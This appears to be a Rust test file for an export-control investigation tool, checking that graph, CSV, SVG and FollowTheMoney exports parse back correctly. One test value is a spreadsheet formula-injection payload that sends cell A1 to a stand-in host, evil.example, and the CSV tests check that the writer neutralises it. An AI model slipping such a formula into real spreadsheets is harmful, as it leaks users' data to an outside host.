//! Exports to `GraphML`, GEXF, CSV and SVG, parsed back: from the library and through the CLI.

mod common;
use common::chokepoint;

use chokepoint::io::export::{csv, gexf, graphml};
use chokepoint::io::load_case;
use chokepoint::layout::picture::JurisdictionIndex;
use chokepoint::model::{Case, Entity, EntityKind, NodePosition, Shipment, ShipmentId};
use std::path::{Path, PathBuf};
use std::process::Command;

const GRAPHML_NS: &str = "http://graphml.graphdrawing.org/xmlns";
const GEXF_NS: &str = "http://gexf.net/1.3";
const VIZ_NS: &str = "http://gexf.net/1.3/viz";

/// Markup characters, quotes, a tab and a newline: all must come back exactly.
const HOSTILE_NAME: &str = "Acme & Sons <\"Intl\"> 'Ltd'\tline\ntwo";
/// A C0 control XML 1.0 cannot carry at all: it is dropped.
const CONTROL_NAME: &str = "Bell\u{7}Corp";
const COMMA_NAME: &str = "Lotus, Gate\nHoldings \"HK\"";
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1)";

fn sample_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("sample_cases")
        .join(name)
}

fn sample_cases() -> Vec<(PathBuf, Case)> {
    ["seed_kunlun_nest.ron", "training_strait_networks.ron"]
        .iter()
        .map(|n| {
            let path = sample_path(n);
            let case = load_case(&path).expect("sample case loads");
            (path, case)
        })
        .collect()
}

/// The seed case plus entities with awkward names and a shipment through them.
fn hostile_case() -> Case {
    let mut case = load_case(&sample_path("seed_kunlun_nest.ron")).expect("seed loads");
    for (id, name) in [
        ("e-hostile", HOSTILE_NAME),
        ("e-control", CONTROL_NAME),
        ("e-comma", COMMA_NAME),
        ("e-formula", FORMULA_NAME),
    ] {
        let mut e = Entity::new(id, EntityKind::Company, name);
        e.aliases.push("@alias".to_owned());
        case.entities.insert(e.id.clone(), e);
    }
    case.positions.insert(
        "e-hostile".into(),
        NodePosition {
            x: -12.5,
            y: 40.25,
            pinned: false,
        },
    );
    let shipment = Shipment {
        id: ShipmentId::new("s-hostile"),
        reference: "-BL 7 & <8>".to_owned(),
        shipper: Some("e-hostile".into()),
        forwarders: vec!["e-comma".into(), "e-missing".into()],
        consignee: Some("e-formula".into()),
        suspected_end_user: Some("e-formula".into()),
        ..Shipment::default()
    };
    case.shipments.insert(shipment.id.clone(), shipment);
    case
}

/// Hops counted from the route as data (shipper → forwarders → the places of the legs, each
/// the entity it names or its country's one jurisdiction → consignee → suspected end user),
/// present entities only, repeats of the previous stop collapsed. (The chart draws a
/// country-only place as a waypoint instead; the graph exports keep the hop.)
fn expected_edges(case: &Case) -> usize {
    let links = case
        .links
        .values()
        .filter(|l| case.entities.contains_key(&l.from) && case.entities.contains_key(&l.to))
        .count();
    let places = JurisdictionIndex::new(case);
    let hops: usize = case
        .shipments
        .values()
        .map(|s| data_route(case, &places, s).len().saturating_sub(1))
        .sum();
    links + hops
}

/// The stops of `s` as the graph exports chain them (see [`expected_edges`]).
fn data_route<'a>(
    case: &Case,
    places: &'a JurisdictionIndex<'a>,
    s: &'a Shipment,
) -> Vec<&'a chokepoint::model::EntityId> {
    let legs = s
        .legs
        .iter()
        .flat_map(|l| [&l.from, &l.to])
        .filter_map(|p| places.place_stop(p));
    let mut chain: Vec<_> = s
        .shipper
        .iter()
        .chain(&s.forwarders)
        .chain(legs)
        .chain(&s.consignee)
        .chain(&s.suspected_end_user)
        .filter(|id| case.entities.contains_key(*id))
        .collect();
    chain.dedup();
    chain
}

fn elements<'a>(
    doc: &'a roxmltree::Document,
    ns: &'a str,
    name: &'a str,
) -> impl Iterator<Item = roxmltree::Node<'a, 'a>> {
    doc.descendants()
        .filter(move |n| n.has_tag_name((ns, name)))
}

fn graphml_data(node: roxmltree::Node, key: &str) -> Option<String> {
    node.children()
        .find(|c| c.has_tag_name((GRAPHML_NS, "data")) && c.attribute("key") == Some(key))
        .map(|c| c.text().unwrap_or_default().to_owned())
}

fn gexf_value(node: roxmltree::Node, key: &str) -> Option<String> {
    node.descendants()
        .find(|c| c.has_tag_name((GEXF_NS, "attvalue")) && c.attribute("for") == Some(key))
        .and_then(|c| c.attribute("value").map(str::to_owned))
}

#[test]
fn graphml_of_sample_cases_parses_with_right_counts() {
    // The seed case's shipments name only a suspected end user and countries (US → MY → CN),
    // so their hops run through the jurisdictions; the training case's run shipper →
    // forwarder → places → consignee → end user.
    let mut shipment_edges = 0;
    for (path, case) in sample_cases() {
        let text = graphml::write(&case);
        let doc =
            roxmltree::Document::parse(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        assert_eq!(
            elements(&doc, GRAPHML_NS, "node").count(),
            case.entities.len(),
            "{}",
            path.display()
        );
        let edges = elements(&doc, GRAPHML_NS, "edge").count();
        assert_eq!(edges, expected_edges(&case), "{}", path.display());
        shipment_edges += edges - case.links.len();
        // Keys are declared for what the nodes and edges use.
        let keys: Vec<_> = elements(&doc, GRAPHML_NS, "key")
            .filter_map(|k| k.attribute("id"))
            .collect();
        for used in elements(&doc, GRAPHML_NS, "data").filter_map(|d| d.attribute("key")) {
            assert!(keys.contains(&used), "undeclared key {used}");
        }
        assert_eq!(text, graphml::write(&case), "stable output");
    }
    assert!(shipment_edges > 0, "shipments become edges");
}

#[test]
fn gexf_of_sample_cases_parses_with_right_counts() {
    for (path, case) in sample_cases() {
        let text = gexf::write(&case);
        let doc =
            roxmltree::Document::parse(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        assert_eq!(elements(&doc, GEXF_NS, "node").count(), case.entities.len());
        assert_eq!(
            elements(&doc, GEXF_NS, "edge").count(),
            expected_edges(&case)
        );
        assert_eq!(
            elements(&doc, VIZ_NS, "position").count(),
            case.positions
                .keys()
                .filter(|id| case.entities.contains_key(*id))
                .count()
        );
        let classes: Vec<_> = elements(&doc, GEXF_NS, "attributes")
            .filter_map(|a| a.attribute("class"))
            .collect();
        assert_eq!(classes, ["node", "edge"]);
    }
}

#[test]
fn graphml_keeps_cjk_markup_and_quotes_exactly() {
    let case = hostile_case();
    let text = graphml::write(&case);
    let doc = roxmltree::Document::parse(&text).expect("well-formed");
    let node = |id: &str| {
        elements(&doc, GRAPHML_NS, "node")
            .find(|n| n.attribute("id") == Some(id))
            .unwrap_or_else(|| panic!("node {id}"))
    };
    assert_eq!(
        graphml_data(node("e-su-di"), "n_aliases").as_deref(),
        Some("苏菂")
    );
    assert_eq!(
        graphml_data(node("e-hostile"), "n_name").as_deref(),
        Some(HOSTILE_NAME)
    );
    assert_eq!(
        graphml_data(node("e-control"), "n_name").as_deref(),
        Some("BellCorp")
    );
    assert_eq!(
        graphml_data(node("e-hostile"), "n_x").as_deref(),
        Some("-12.5")
    );
    // The shipment: shipper → forwarder (the missing forwarder skipped) → consignee; the
    // suspected end user is the consignee, so no extra hop.
    let hops: Vec<_> = elements(&doc, GRAPHML_NS, "edge")
        .filter(|e| graphml_data(*e, "e_shipment").as_deref() == Some("s-hostile"))
        .map(|e| {
            (
                e.attribute("source").unwrap_or_default().to_owned(),
                e.attribute("target").unwrap_or_default().to_owned(),
                graphml_data(e, "e_role").unwrap_or_default(),
                graphml_data(e, "e_label").unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(
        hops,
        [
            (
                "e-hostile".to_owned(),
                "e-comma".to_owned(),
                "shipper→forwarder".to_owned(),
                "-BL 7 & <8>".to_owned()
            ),
            (
                "e-comma".to_owned(),
                "e-formula".to_owned(),
                "forwarder→consignee".to_owned(),
                "-BL 7 & <8>".to_owned()
            ),
        ]
    );
    // One directedness for the whole graph (networkx refuses a mix); undirected links say so
    // in a typed attribute.
    let undirected = case
        .links
        .values()
        .filter(|l| !l.kind.is_directed())
        .count();
    assert!(undirected > 0);
    assert!(
        elements(&doc, GRAPHML_NS, "edge").all(|e| e.attribute("directed").is_none()),
        "no edge overrides the graph's direction"
    );
    assert_eq!(
        elements(&doc, GRAPHML_NS, "edge")
            .filter(|e| graphml_data(*e, "e_directed").as_deref() == Some("false"))
            .count(),
        undirected
    );
}

#[test]
fn gexf_keeps_cjk_markup_quotes_and_positions() {
    let case = hostile_case();
    let text = gexf::write(&case);
    let doc = roxmltree::Document::parse(&text).expect("well-formed");
    let node = |id: &str| {
        elements(&doc, GEXF_NS, "node")
            .find(|n| n.attribute("id") == Some(id))
            .unwrap_or_else(|| panic!("node {id}"))
    };
    assert_eq!(
        gexf_value(node("e-su-di"), "aliases").as_deref(),
        Some("苏菂")
    );
    // Attribute values keep tabs and newlines because they are written as references.
    assert_eq!(node("e-hostile").attribute("label"), Some(HOSTILE_NAME));
    assert_eq!(
        gexf_value(node("e-hostile"), "name").as_deref(),
        Some(HOSTILE_NAME)
    );
    assert_eq!(node("e-control").attribute("label"), Some("BellCorp"));
    let position = node("e-hostile")
        .children()
        .find(|c| c.has_tag_name((VIZ_NS, "position")))
        .expect("position");
    assert_eq!(position.attribute("x"), Some("-12.5"));
    // GEXF's y axis points up.
    assert_eq!(position.attribute("y"), Some("-40.25"));
    let kinds: Vec<_> = elements(&doc, GEXF_NS, "edge")
        .filter(|e| {
            e.attribute("id")
                .is_some_and(|id| id.starts_with("s-hostile#"))
        })
        .map(|e| e.attribute("kind").unwrap_or_default().to_owned())
        .collect();
    assert_eq!(kinds, ["Shipment", "Shipment"]);
}

/// A small RFC 4180 reader, enough to check the writer: quoted fields may hold commas, doubled
/// quotes and line breaks.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            // Anything else, and every character inside quotes, is field text.
            (_, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && row.is_empty(),
        "last line ends with CRLF"
    );
    rows
}

#[test]
fn csv_tables_parse_back_with_right_counts() {
    for (path, case) in sample_cases() {
        for (text, n, header) in [
            (
                csv::entities(&case),
                case.entities.len(),
                &csv::ENTITY_HEADER[..],
            ),
            (csv::links(&case), case.links.len(), &csv::LINK_HEADER[..]),
            (
                csv::shipments(&case),
                case.shipments.len(),
                &csv::SHIPMENT_HEADER[..],
            ),
        ] {
            let rows = parse_csv(&text);
            assert_eq!(rows.len(), n + 1, "{}", path.display());
            assert_eq!(rows[0], header);
            assert!(rows.iter().all(|r| r.len() == header.len()));
        }
    }
}

#[test]
fn csv_keeps_awkward_names_and_neutralises_formulas() {
    let case = hostile_case();
    let rows = parse_csv(&csv::entities(&case));
    let row = |id: &str| {
        rows.iter()
            .find(|r| r[0] == id)
            .unwrap_or_else(|| panic!("row {id}"))
    };
    assert_eq!(row("e-comma")[2], COMMA_NAME);
    assert_eq!(row("e-hostile")[2], HOSTILE_NAME);
    assert_eq!(row("e-su-di")[3], "苏菂");
    assert_eq!(row("e-formula")[2], format!("'{FORMULA_NAME}"));
    assert_eq!(row("e-formula")[3], "'@alias");
    // Numbers we write stay numbers, negative or not.
    assert_eq!(row("e-hostile")[14], "-12.5");
    assert_eq!(row("e-hostile")[15], "40.25");
    // No cell of any table starts with a formula character unless it is a number.
    for table in [
        csv::entities(&case),
        csv::links(&case),
        csv::shipments(&case),
    ] {
        for cell in parse_csv(&table).iter().flatten() {
            if cell.starts_with(['=', '+', '-', '@']) {
                assert!(cell.parse::<f64>().is_ok(), "unguarded cell {cell:?}");
            }
        }
    }
    let shipments = parse_csv(&csv::shipments(&case));
    let hostile = shipments
        .iter()
        .find(|r| r[0] == "s-hostile")
        .expect("shipment row");
    assert_eq!(hostile[1], "'-BL 7 & <8>");
    assert_eq!(hostile[6], HOSTILE_NAME);
    assert_eq!(hostile[9], format!("'{FORMULA_NAME}"));
}

#[test]
fn cli_exports_each_format() {
    let dir = tempfile::tempdir().expect("temp dir");
    let seed = sample_path("seed_kunlun_nest.ron");
    let case = load_case(&seed).expect("seed loads");
    for (format, file) in [("graphml", "case.graphml"), ("gexf", "case.gexf")] {
        let target = dir.path().join(file);
        let out = chokepoint()
            .args(["export", "--format", format])
            .arg(&seed)
            .arg("-o")
            .arg(&target)
            .output()
            .expect("runs");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let text = std::fs::read_to_string(&target).expect("written");
        roxmltree::Document::parse(&text).expect("well-formed");
        let expected = if format == "graphml" {
            graphml::write(&case)
        } else {
            gexf::write(&case)
        };
        assert_eq!(text, expected);
    }
    let prefix = dir.path().join("seed");
    let out = chokepoint()
        .args(["export", "--format", "csv"])
        .arg(&seed)
        .arg("-o")
        .arg(&prefix)
        .output()
        .expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for (suffix, n) in [
        ("entities", case.entities.len()),
        ("links", case.links.len()),
        ("shipments", case.shipments.len()),
    ] {
        let text = std::fs::read_to_string(dir.path().join(format!("seed_{suffix}.csv")))
            .expect("csv written");
        assert_eq!(parse_csv(&text).len(), n + 1);
    }
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 3);
}

#[test]
fn cli_refuses_bad_format_missing_case_and_bad_usage() {
    let dir = tempfile::tempdir().expect("temp dir");
    let seed = sample_path("seed_kunlun_nest.ron");
    let target = dir.path().join("out.xml");

    let out = chokepoint()
        .args(["export", "--format", "pajek"])
        .arg(&seed)
        .arg("-o")
        .arg(&target)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown format \"pajek\""));
    assert!(!target.exists());

    let missing = dir.path().join("nope.ron");
    let out = chokepoint()
        .args(["export", "--format", "graphml"])
        .arg(&missing)
        .arg("-o")
        .arg(&target)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("nope.ron"));
    assert!(!target.exists());

    let out = chokepoint()
        .args(["export", "--format", "graphml"])
        .arg(&seed)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2), "no -o is a usage error");
    assert!(String::from_utf8_lossy(&out.stderr).contains("usage: chokepoint export"));

    let out = chokepoint()
        .args(["export", "--format", "gexf"])
        .arg(&seed)
        .arg("-o")
        .arg(dir.path().join("no-such-dir").join("out.gexf"))
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(1), "unwritable output");
}

/// A US → SG → CN shipment whose legs name only countries: the picture draws SG as a waypoint
/// on the shipper → consignee line instead of sending the route through the Singapore
/// jurisdiction node (every route through one hub per country made realistic cases a tangle);
/// a second shipment along the same route is bundled into the same line.
#[test]
fn svg_route_draws_a_country_only_leg_as_a_waypoint_and_bundles_twins() {
    use chokepoint::model::{Leg, Place};
    let mut case = Case::default();
    for (id, kind, country, x, y) in [
        ("e-shipper", EntityKind::Company, "US", 0.0, 0.0),
        ("e-consignee", EntityKind::Company, "CN", 1000.0, 0.0),
        ("e-sg", EntityKind::Jurisdiction, "SG", 500.0, 400.0),
        ("e-cn-1", EntityKind::Jurisdiction, "CN", 900.0, -400.0),
        ("e-cn-2", EntityKind::Jurisdiction, "CN", 1100.0, -400.0),
    ] {
        let mut e = Entity::new(id, kind, id);
        e.country = Some(country.parse().expect("country"));
        case.entities.insert(e.id.clone(), e);
        case.positions.insert(
            id.into(),
            NodePosition {
                x,
                y,
                pinned: false,
            },
        );
    }
    let place = |c: &str| Place {
        country: Some(c.parse().expect("country")),
        ..Place::default()
    };
    let shipment = Shipment {
        id: ShipmentId::new("s-1"),
        reference: "BL-1".to_owned(),
        shipper: Some("e-shipper".into()),
        consignee: Some("e-consignee".into()),
        legs: vec![
            Leg {
                from: place("US"),
                to: place("SG"),
                ..Leg::default()
            },
            Leg {
                from: place("SG"),
                to: place("CN"),
                ..Leg::default()
            },
        ],
        ..Shipment::default()
    };
    let mut twin = shipment.clone();
    twin.id = ShipmentId::new("s-2");
    twin.reference = "BL-2".to_owned();
    case.shipments.insert(shipment.id.clone(), shipment);
    case.shipments.insert(twin.id.clone(), twin);

    let svg = chokepoint::io::export::svg::write(&case);
    let doc = roxmltree::Document::parse(&svg).expect("well-formed SVG");
    let routes: Vec<_> = doc
        .descendants()
        .filter(|n| n.attribute("class") == Some("shipment"))
        .collect();
    assert_eq!(routes.len(), 1, "the two shipments are one line");
    let title = routes[0]
        .children()
        .find(|n| n.has_tag_name("title"))
        .and_then(|t| t.text())
        .unwrap_or_default();
    assert_eq!(title, "BL-1, BL-2");
    // Each hop is "M x,y Q cx,cy ex,ey"; the route's points in order.
    let hops: Vec<Vec<(f32, f32)>> = routes[0]
        .children()
        .filter(|n| n.has_tag_name("path"))
        .map(|p| {
            p.attribute("d")
                .expect("path data")
                .split(|c: char| c == 'M' || c == 'Q' || c.is_whitespace())
                .filter(|t| !t.is_empty())
                .map(|xy| {
                    let (x, y) = xy.split_once(',').expect("x,y");
                    (x.parse().expect("x"), y.parse().expect("y"))
                })
                .collect()
        })
        .collect();
    assert_eq!(
        hops.len(),
        1,
        "shipper → consignee, SG on the way: {hops:?}"
    );
    let near = |p: (f32, f32), x: f32, y: f32| (p.0 - x).hypot(p.1 - y) < 40.0;
    assert!(near(hops[0][0], 0.0, 0.0), "{hops:?}");
    assert!(near(hops[0][2], 1000.0, 0.0), "{hops:?}");
    assert!(
        hops[0][1].1.abs() < 100.0,
        "no detour to the SG node: {hops:?}"
    );
    let texts: Vec<&str> = doc
        .descendants()
        .filter(|n| n.has_tag_name("text"))
        .filter_map(|n| n.text())
        .collect();
    assert!(
        texts.contains(&"via SG"),
        "the waypoint is labelled: {texts:?}"
    );
    assert!(
        texts.iter().any(|t| t.starts_with("2 shipments")),
        "the bundle says how many: {texts:?}"
    );
}

/// Runs `tests/peers/SCRIPT` with `args`, shows what it printed, fails with `refused` and its
/// output if it exits non-zero; returns its standard output.
fn run_peer(python: &Path, script: &str, args: &[&Path], refused: &str) -> String {
    let out = Command::new(python)
        .arg(
            Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("tests/peers")
                .join(script),
        )
        .args(args)
        .output()
        .expect("run python");
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    eprintln!("{stdout}{}", String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "{refused}:\n{stdout}");
    stdout
}

/// The cases the peer checks read: both sample cases, a generated 300-entity case and the real
/// OpenSanctions fixture (German party donations) imported.
fn peer_cases() -> Vec<(String, Case)> {
    let mut cases: Vec<(String, Case)> = sample_cases()
        .into_iter()
        .map(|(path, case)| {
            let stem = path.file_stem().map(|s| s.to_string_lossy().into_owned());
            (stem.unwrap_or_default(), case)
        })
        .collect();
    cases.push((
        "generated_300".to_owned(),
        chokepoint::io::generate::generate_case(300, 7).expect("generate"),
    ));
    let ftm = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/data/opensanctions_parteispenden_entities.ftm.json");
    if let Ok(text) = std::fs::read_to_string(&ftm) {
        let mut case = Case::default();
        let (edit, _) = chokepoint::io::import::ftm::import(&text, &case).expect("ftm import");
        case.apply(edit).expect("import applies");
        cases.push(("parteispenden_import".to_owned(), case));
    }
    cases
}

/// Every GraphML and GEXF export of the sample cases, a generated case and an imported real
/// file, read by networkx (`read_graphml`, `read_gexf`) and igraph (`Read_GraphML`): the counts
/// of nodes, edges, undirected links and shipments with hops are what the case holds, and
/// numbers and booleans arrive typed.
#[test]
fn networkx_and_igraph_read_every_graph_export() {
    let Some(python) = common::peer_python(&["networkx", "igraph"]) else {
        return;
    };
    let dir = tempfile::tempdir().expect("temp dir");
    let mut manifest = Vec::new();
    let mut undirected_total = 0;
    for (name, case) in peer_cases() {
        let undirected = case
            .links
            .values()
            .filter(|l| !l.kind.is_directed())
            .filter(|l| case.entities.contains_key(&l.from) && case.entities.contains_key(&l.to))
            .count();
        undirected_total += undirected;
        let places = JurisdictionIndex::new(&case);
        let with_hops: Vec<String> = case
            .shipments
            .values()
            .filter(|s| data_route(&case, &places, s).len() > 1)
            .map(|s| s.id.to_string())
            .collect();
        for (format, text) in [
            ("graphml", graphml::write(&case)),
            ("gexf", gexf::write(&case)),
        ] {
            let path = dir.path().join(format!("{name}.{format}"));
            std::fs::write(&path, text).expect("write export");
            manifest.push(serde_json::json!({
                "path": path,
                "format": format,
                "nodes": case.entities.len(),
                "edges": expected_edges(&case),
                "undirected": undirected,
                "shipments_with_hops": with_hops,
            }));
        }
    }
    assert!(
        undirected_total > 0,
        "the cases have undirected links to check"
    );
    let manifest_path = dir.path().join("manifest.json");
    std::fs::write(
        &manifest_path,
        serde_json::to_string(&manifest).expect("json"),
    )
    .expect("write manifest");
    let stdout = run_peer(
        &python,
        "graphs.py",
        &[manifest_path.as_path()],
        "a peer could not read an export",
    );
    assert_eq!(
        stdout.lines().filter(|l| l.starts_with("ok ")).count(),
        manifest.len() * 3 / 2
    );
}

/// Every GEXF export validates against the official GEXF 1.3 schema (the RELAX NG grammar
/// `gexf.rng`, with `viz.rng` and `dynamics.rng`, from github.com/gephi/gexf `specs/1.3/`),
/// checked by lxml. The schema is not in any package registry CI can reach and is not ours to
/// commit, so this runs where `GEXF_SCHEMA_DIR` names a folder holding those three files, and
/// says it was skipped otherwise.
#[test]
fn gexf_validates_against_the_official_schema() {
    let Some(schema_dir) = std::env::var_os("GEXF_SCHEMA_DIR") else {
        eprintln!("SKIPPED: set GEXF_SCHEMA_DIR to a folder with the GEXF 1.3 gexf.rng");
        return;
    };
    let Some(python) = common::peer_python(&["lxml"]) else {
        return;
    };
    let dir = tempfile::tempdir().expect("temp dir");
    let mut paths = Vec::new();
    for (name, case) in peer_cases() {
        let path = dir.path().join(format!("{name}.gexf"));
        std::fs::write(&path, gexf::write(&case)).expect("write export");
        paths.push(path);
    }
    let script = "import sys\n\
        from lxml import etree\n\
        rng = etree.RelaxNG(etree.parse(sys.argv[1] + '/gexf.rng'))\n\
        bad = 0\n\
        for p in sys.argv[2:]:\n\
        \x20   ok = rng.validate(etree.parse(p))\n\
        \x20   bad += not ok\n\
        \x20   print(p, 'valid' if ok else rng.error_log)\n\
        sys.exit(1 if bad else 0)\n";
    let out = Command::new(python)
        .arg("-c")
        .arg(script)
        .arg(&schema_dir)
        .args(&paths)
        .output()
        .expect("run python");
    let stdout = String::from_utf8_lossy(&out.stdout);
    eprintln!("{stdout}{}", String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "invalid GEXF:\n{stdout}");
    assert_eq!(stdout.matches(" valid").count(), paths.len());
}

/// Every `FollowTheMoney` export of the sample cases, a generated case (with links from an
/// entity to itself, which FtM refuses) and imported real OpenSanctions data, checked by the
/// `followthemoney` library itself (`tests/peers/ftm_check.py`): known schemas, only their
/// properties, values valid for their types, required properties present (a `Document` needs
/// its `fileName`), references to entities in the file, unique ids, and the library's own
/// `validate` and proxy construction.
#[test]
fn the_followthemoney_library_accepts_every_ftm_export() {
    let Some(python) = common::peer_python(&["followthemoney"]) else {
        return;
    };
    let dir = tempfile::tempdir().expect("temp dir");
    let mut cases = peer_cases();
    let t1 = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/ftm/opensanctions_t1_entities.ftm.json");
    let text = std::fs::read_to_string(t1).expect("fixture");
    let mut case = Case::default();
    let (edit, _) = chokepoint::io::import::ftm::import(&text, &case).expect("ftm import");
    case.apply(edit).expect("import applies");
    cases.push(("opensanctions_t1_import".to_owned(), case));
    let mut paths = Vec::new();
    for (name, case) in &cases {
        let export = chokepoint::io::export::ftm::write(case);
        assert!(export.entities > 0, "{name}: nothing exported");
        let path = dir.path().join(format!("{name}.ftm.json"));
        std::fs::write(&path, export.text).expect("write export");
        paths.push(path);
    }
    let paths: Vec<&Path> = paths.iter().map(PathBuf::as_path).collect();
    let stdout = run_peer(
        &python,
        "ftm_check.py",
        &paths,
        "the followthemoney library refuses an export",
    );
    assert_eq!(
        stdout
            .lines()
            .filter(|l| l.ends_with(" 0 problems"))
            .count(),
        paths.len(),
        "{stdout}"
    );
}

/// A Chokepoint FtM export imported into a new case gives back the same case: every entity,
/// link, shipment and piece of evidence exactly (ids, quantities, values, ECCNs, end users,
/// statuses, confidence, flags, legs, claims), the title and details, notes, groups, saved
/// views, positions, custody log and dismissals; and so the same findings. Before, the
/// training case's findings fell from 51 to 12 on this round trip. Imported into the case it
/// came from, it adds nothing.
#[test]
fn ftm_round_trip_restores_the_case_and_its_findings() {
    use chokepoint::analysis::{RuleSet, ScreeningList, findings_and_hits};
    use chokepoint::model::PartialDate;
    let rules = RuleSet::builtin().expect("rules");
    let list = ScreeningList::demo().expect("demo list");
    let today = PartialDate::ymd(2026, 12, 2);
    let keys = |case: &Case| -> Vec<String> {
        let (findings, _) = findings_and_hits(case, &rules, [&list], 0.88, &today);
        let mut keys: Vec<String> = findings.iter().map(|f| f.key.clone()).collect();
        keys.sort();
        keys
    };
    for (name, case) in peer_cases() {
        let export = chokepoint::io::export::ftm::write(&case);
        let (edit, summary) = chokepoint::io::import::ftm::import(&export.text, &Case::default())
            .unwrap_or_else(|e| panic!("{name}: {e}"));
        let mut back = Case::default();
        back.apply(edit).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(back.entities, case.entities, "{name}: entities");
        assert_eq!(back.links, case.links, "{name}: links");
        assert_eq!(back.shipments, case.shipments, "{name}: shipments");
        assert_eq!(back.evidence, case.evidence, "{name}: evidence");
        assert_eq!(back.notes, case.notes, "{name}: notes");
        assert_eq!(back.groups, case.groups, "{name}: groups");
        assert_eq!(back.views, case.views, "{name}: views");
        assert_eq!(back.positions, case.positions, "{name}: positions");
        assert_eq!(back.custody, case.custody, "{name}: custody");
        assert_eq!(back.dismissals, case.dismissals, "{name}: dismissals");
        assert_eq!(back.meta, case.meta, "{name}: meta");
        let (before, after) = (keys(&case), keys(&back));
        assert_eq!(before, after, "{name}: findings");
        eprintln!(
            "{name}: {} records, {} findings before and after; {}",
            summary.records,
            before.len(),
            summary.notes.join("; ")
        );

        // Into the case it came from: everything is already there.
        let (edit, _) = chokepoint::io::import::ftm::import(&export.text, &case).expect("import");
        let mut again = case.clone();
        again.apply(edit).expect("applies");
        assert_eq!(again.entities.len(), case.entities.len(), "{name}");
        assert_eq!(again.links.len(), case.links.len(), "{name}");
        assert_eq!(again.shipments.len(), case.shipments.len(), "{name}");
    }

    // A Chokepoint export with an entity's line cut out (found by fuzzing: the import was
    // accepted and then did not apply): what named that entity is left out and listed, and
    // the rest applies.
    let seed = sample_cases()
        .into_iter()
        .find(|(p, _)| p.ends_with("seed_kunlun_nest.ron"))
        .expect("seed case")
        .1;
    let cut: String = chokepoint::io::export::ftm::write(&seed)
        .text
        .lines()
        .filter(|l| !l.starts_with("{\"chokepoint\":{\"entity\":{\"id\":\"e-h100\""))
        .flat_map(|l| [l, "\n"])
        .collect();
    let (edit, summary) =
        chokepoint::io::import::ftm::import(&cut, &Case::default()).expect("imports");
    let mut back = Case::default();
    back.apply(edit).expect("what was kept applies");
    assert!(!back.entities.contains_key(&"e-h100".into()));
    assert!(
        summary.skipped.iter().any(|s| s.contains("e-h100")),
        "{:?}",
        summary.skipped
    );
    assert_eq!(back.entities.len(), seed.entities.len() - 1);

    // A damaged Chokepoint record is refused with its line, not half-read.
    let text = "{\"id\": \"e-a\", \"schema\": \"Company\", \"properties\": {\"name\": [\"A\"]}}\n\
                {\"id\": \"e-b\", \"schema\": \"Company\", \"properties\": {\"name\": [\"B\"]}, \
                \"chokepoint\": {\"entity\": {\"id\": 5}}}\n";
    let err = chokepoint::io::import::ftm::import(text, &Case::default())
        .expect_err("refused")
        .to_string();
    assert!(
        err.contains("line 2") && err.contains("valid entity"),
        "{err}"
    );
}
